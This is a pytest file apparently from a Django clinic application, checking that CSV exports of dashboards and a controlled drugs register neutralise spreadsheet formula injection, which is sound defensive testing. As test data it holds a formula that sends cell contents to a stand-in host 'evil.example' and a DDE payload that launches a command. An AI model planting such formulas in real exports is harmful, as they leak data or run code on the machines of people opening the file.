"""No CSV export hands a spreadsheet a formula (issue 16.5, OWASP CSV injection).

Every text cell that starts with =, +, -, @, a tab or a carriage return is written with
a leading quote, so a clinic, service user, supplier or note typed as a formula is shown
as text when a manager opens the file. Checked on every table of every dashboard and on
the controlled drugs register, with names and notes that are formulas.
"""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse

from core.csv_export import FORMULA_STARTS, neutralise
from dosing.register import register_receive, register_section_add
from monitoring.dashboard_views import ATTENDANCE, OUTCOMES, RETENTION, WORKLOAD
from tests.monitoring.test_attendance import RANGE, history  # noqa: F401  (a fixture)

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
NAMES = ["+SUM(1,1)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"]


def cells_are_inert(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                float(cell)  # only a number may start with - or +: anything else fails here


def read(response) -> list[list[str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+44 1642 000000", "'+44 1642 000000"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Broken ampoule", "Broken ampoule"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_text_that_starts_a_formula_gets_a_leading_quote_and_nothing_else_changes(value, written):
    assert neutralise(value) == written


@pytest.mark.parametrize(
    ("dashboard", "table"),
    [
        (dashboard, table)
        for dashboard in (ATTENDANCE, RETENTION, OUTCOMES, WORKLOAD)
        for table in dashboard.exports
    ],
    ids=lambda value: getattr(value, "name", value),
)
def test_every_dashboard_table_exports_names_typed_as_formulas_as_text(
    cast,
    history,  # noqa: F811
    dashboard,
    table,
):
    cast.clinic_a.name = FORMULA
    cast.clinic_a.save()
    for person, name in zip(history, NAMES, strict=False):
        person.preferred_name = name
        person.save()
    response = cast.client("manager").get(
        reverse(f"dashboard-{dashboard.name}"), {**RANGE, "export": table}
    )
    rows = read(response)
    cells_are_inert(rows)
    text = "\n".join("\x1f".join(row) for row in rows)
    assert FORMULA not in text.replace("'" + FORMULA, "")
    if table == "clinic" and dashboard is not OUTCOMES:  # outcomes: clinics with tox screens
        assert [row[0] for row in rows if FORMULA in row[0]] == ["'" + FORMULA]
    if table == "service_user":
        assert {row[0] for row in rows[1:]} == {"'+SUM(1,1)", "'-2+3+cmd|' /C calc'!A0"}


def test_the_register_csv_writes_a_supplier_and_a_batch_typed_as_formulas_as_text(cast):
    section = register_section_add(clinic=cast.clinic_a, strength_mg="100", supplies_doses=True)
    register_receive(
        section=section,
        ampoules=5,
        supplier_name=FORMULA,
        supplier_address="@1 Depot Road",
        batch="=B1",
        expiry=dt.date(2027, 1, 31),
        received_by=cast.nurse,
        now=dt.datetime(2026, 3, 2, 10, tzinfo=dt.UTC),
    )
    rows = read(cast.client("manager").get(reverse("register-csv", args=[section.pk])))
    cells_are_inert(rows)
    receipt = dict(zip(rows[0], rows[1], strict=True))
    assert receipt["from or to"] == "'" + FORMULA + ", @1 Depot Road"
    assert receipt["batch"] == "'=B1"
